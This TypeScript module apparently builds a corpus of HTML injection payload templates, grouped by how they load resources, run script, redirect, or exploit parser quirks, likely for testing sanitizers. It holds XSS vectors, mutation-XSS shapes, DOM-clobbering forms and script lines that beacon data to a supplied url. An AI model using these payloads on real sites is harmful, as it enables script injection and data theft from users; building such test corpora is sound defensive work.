import type { Family, Shape } from './shape';

const pairs = <A, B>(some: readonly A[], others: readonly B[]): readonly (readonly [A, B])[] =>
  some.flatMap((one) => others.map((other) => [one, other] as const));

/** A tag, with the attributes by which it loads something. */
const LOADERS: readonly (readonly [tag: string, attributes: readonly string[]])[] = [
  ['img', ['src', 'srcset', 'lowsrc', 'dynsrc', 'longdesc']],
  ['video', ['src', 'poster']],
  ['audio', ['src']],
  ['source', ['src', 'srcset']],
  ['track', ['src']],
  ['iframe', ['src']],
  ['frame', ['src']],
  ['embed', ['src', 'pluginspage']],
  ['object', ['data', 'codebase', 'classid']],
  ['applet', ['archive', 'code']],
  ['script', ['src']],
  ['bgsound', ['src']],
  ['input type=image', ['src', 'formaction']],
  ['body', ['background']],
  ['table', ['background']],
  ['portal', ['src']],
  ['fencedframe', ['src']],
  ['html', ['manifest']],
  ['svg', ['xml:base']],
  ['math', ['href', 'xlink:href']],
  ['ul', ['style=list-style:url']],
];

const LOADING: readonly Shape[] = LOADERS.flatMap(([tag, attributes]) =>
  attributes.map((attribute, index): Shape => {
    if (attribute.includes('=')) return ({ url }) => `<${tag} ${attribute}(${url})><li>x</li></${tag}>`;
    const value = attribute === 'srcset' ? (url: string) => `${url} 2x, ${url}b 640w` : (url: string) => url;
    // Quoted in every way, and closed or not.
    return ({ url }) =>
      [
        `<${tag} ${attribute}="${value(url)}">`,
        `<${tag}\n${attribute}='${value(url)}'></${tag.split(' ')[0]}>`,
        `<${tag.toUpperCase()}/${attribute}="${value(url)}"/>`,
      ][(index + tag.length) % 3] ?? '';
  }),
);

const RELATIONS = ['stylesheet', 'preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'icon'].concat([
  'manifest',
  'import',
  'prerender',
  'alternate stylesheet',
  'expect',
  'compression-dictionary',
]);

const LINKED: readonly Shape[] = RELATIONS.map(
  (relation) =>
    ({ url }) =>
      `<link rel="${relation}" as="image" href="${url}">`,
);

const STYLES: readonly Shape[] = [
  'body{background:url(%)}',
  '@import "%";',
  '@import url(%) layer(a);',
  '@font-face{font-family:a;src:url(%)}*{font-family:a}',
  'p{background:image-set("%" 1x)}',
  'p{cursor:url(%),auto}',
  'p::before{content:url(%)}',
  'p{-webkit-mask:url(%)}p{filter:url(%#a)}',
  '@namespace url(%);p{border-image:url(%)}',
  '@charset "x";@\\69mport "%";',
].flatMap((rule): readonly Shape[] => [
  ({ url }) => `<style>${rule.replaceAll('%', url)}</style>`,
  ({ url }) => `<p style='${/\{(.*?)\}/.exec(rule)?.[1]?.replaceAll('%', url) ?? `--a:url(${url})`}'>x</p>`,
]);

/** What moves the page, or sends something of it. */
const MOVING: readonly Shape[] = [
  ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  ({ url }) => `<META HTTP-EQUIV=refresh CONTENT="0.1; ${url}">`,
  ({ run }) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  () => `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  () => `<meta http-equiv="set-cookie" content="a=b">`,
  ({ url }) => `<base href="${url}/" target="_top">`,
  ({ url }) => `<form action="${url}"><input name=a value=b><button>go</button></form>`,
  ({ url }) => `<form id=f></form><button form=f formaction="${url}" autofocus>x</button>`,
  ({ run }) => `<form action="javascript:${run}"><input type=submit>`,
  ({ url }) => `<a href="${url}" ping="${url}p" target=_top>x</a>`,
  ({ url }) => `<map name=m><area href="${url}" shape=default></map><img usemap=#m>`,
  ({ url }) => `<a href="${url}" download attributionsrc="${url}a">x</a>`,
  ({ run }) => `<a href="javascript:${run}">x</a>`,
  ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  ({ run }) => `<iframe src="javascript:${run}"></iframe>`,
  ({ run }) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  ({ run }) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  ({ url }) => `<isindex action="${url}"><keygen><marquee loop=1 width=0>x</marquee>`,
];

const SCRIPTS: readonly Shape[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<ScRiPt\t>${run}</sCrIpT\n>`,
  ({ run }) => `<script type="module">${run}</script>`,
  ({ url }) => `<script type="module">import "${url}"</script>`,
  ({ url }) => `<script type="importmap">{"imports":{"a":"${url}"}}</script>`,
  ({ url }) => `<script type="speculationrules">{"prefetch":[{"urls":["${url}"]}]}</script>`,
  ({ url }) => `<script>fetch("${url}");new Image().src="${url}i";navigator.sendBeacon("${url}s")</script>`,
  ({ url }) => `<script>new WebSocket("ws:${url.slice(5)}");new EventSource("${url}e")</script>`,
  ({ run }) => `<script nonce="">${run}</script>`,
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ url }) => `<svg><script href="${url}" xlink:href="${url}x"/></svg>`,
  ({ run }) => `</script><script>${run}</script>`,
  ({ run }) => `<script>/*\n\n*/${run}//\n</script>`,
  ({ run }) => `<<script>${run}//<</script>`,
];

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'x-a tabindex=1',
  'marquee',
];
const EVENTS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onmouseover', 'onanimationstart', 'onbegin', 'onclick'];

/** Every tag with every event, its attribute written in four ways. */
const HANDLERS: readonly Shape[] = pairs(TAGS, EVENTS).map(
  ([tag, event], index) =>
    ({ run }) =>
      [
        `<${tag} ${event}="${run}">`,
        `<${tag}/${event}=${run}//>`,
        `<${tag}\n${event.toUpperCase()}='${run}'`,
        `<${tag} ${event}\u000c=\u0000"${run}">`,
      ][(index + Math.floor(index / EVENTS.length)) % 4] ?? '',
);

const DRAWN: readonly Shape[] = [
  'image',
  'use',
  'feImage',
  'a',
  'textPath',
  'mpath',
  'linearGradient',
  'pattern',
].flatMap((tag): readonly Shape[] => [
  ({ url }) => `<svg width=9 height=9><${tag} href="${url}#a" xlink:href="${url}x#a" width=9 height=9></${tag}></svg>`,
  ({ run }) =>
    `<svg><${tag} href="javascript:${run}"><set attributeName="href" to="javascript:${run}"/></${tag}></svg>`,
]);

/** Elements in which a parser goes by other rules than around them. */
const ODD = ['svg', 'math', 'math><mtext', 'svg><foreignObject', 'svg><style', 'svg><title', 'svg><desc'].concat([
  'noscript',
  'template',
  'table',
  'select',
  'textarea',
  'title',
  'xmp',
  'iframe',
  'noembed',
  'plaintext',
  'listing',
]);

/** What comes to life where a text is parsed a second time, by the rules of another place. */
const TWICE: readonly Shape[] = ODD.flatMap((odd): readonly Shape[] => {
  const last = odd.slice(odd.lastIndexOf('<') + 1);
  return [
    ({ run }) => `<${odd}><style><!--</style><img src=x onerror=${run}>--></style>`,
    ({ url, run }) => `<${odd}><p title="</${last}><img src=${url} onerror=${run}>">`,
    ({ url }) => `<${odd}><![CDATA[</${last}><img src=${url}>]]></${last}>`,
  ];
});

const DECLARED: readonly Shape[] = [
  ({ url }) => `<!DOCTYPE html SYSTEM "${url}">`,
  ({ url }) => `<?xml-stylesheet href="${url}"?>`,
  ({ url }) => `<!ENTITY a SYSTEM "${url}">&a;`,
  ({ run }) => `<!--[if IE]><script>${run}</script><![endif]-->`,
  ({ run }) => `<!--><img src=x onerror=${run}>-->`,
  ({ run }) => `<!-- --!><img src=x onerror=${run}>`,
  ({ url }) => `<template shadowrootmode=open><img src="${url}"></template>`,
  ({ url }) => `<x-a is=img src="${url}"><slot name="${url}"></slot></x-a>`,
  ({ url }) => `<div popover id=p><img loading=lazy src="${url}"></div><button popovertarget=p>x</button>`,
  ({ run }) => `<form id=body><input name=firstChild><input name=attributes></form><img src=x onerror=${run}>`,
  ({ run }) => `<a id=strings><a id=strings name=section href="javascript:${run}">x</a></a>`,
];

export const HTML_SHAPES: readonly Family[] = [
  ['loads', LOADING],
  ['is linked', LINKED],
  ['is a style', STYLES],
  ['moves the page', MOVING],
  ['is a script', SCRIPTS],
  ['handles an event', HANDLERS],
  ['is drawn', DRAWN],
  ['is parsed twice', TWICE],
  ['is declared', DECLARED],
];
